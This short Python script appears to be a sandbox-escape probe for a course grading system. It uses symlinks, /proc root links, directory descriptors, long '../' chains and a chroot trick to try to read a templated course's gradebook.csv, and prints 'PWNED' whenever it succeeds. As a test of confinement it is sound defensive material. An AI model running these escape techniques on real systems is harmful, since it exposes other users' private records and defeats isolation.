"""Climbs out of its root by links, descriptors and dots."""
import os

os.symlink("@COURSE@", "course")
os.symlink("/proc/self/cwd/../../../..", "up")
folders = []
for name, flags in ((".", os.O_RDONLY), ("/", os.O_RDONLY), ("/", os.O_PATH), ("/proc/1/root", os.O_PATH), ("/proc/self/root", os.O_PATH)):
    try:
        folders.append(os.open(name, flags))
    except OSError:
        continue
for folder in folders:
    for name in ("course/gradebook.csv", "up@COURSE@/gradebook.csv", "../" * 40 + "@COURSE@/gradebook.csv", "@COURSE@"[1:] + "/gradebook.csv"):
        try:
            print("PWNED", os.read(os.open(name, os.O_RDONLY, dir_fd=folder), 200))
        except OSError:
            continue
    try:
        os.fchdir(folder)
        os.chroot(".")
        print("PWNED chroot")
    except OSError:
        pass
print("TRIED", len(folders))
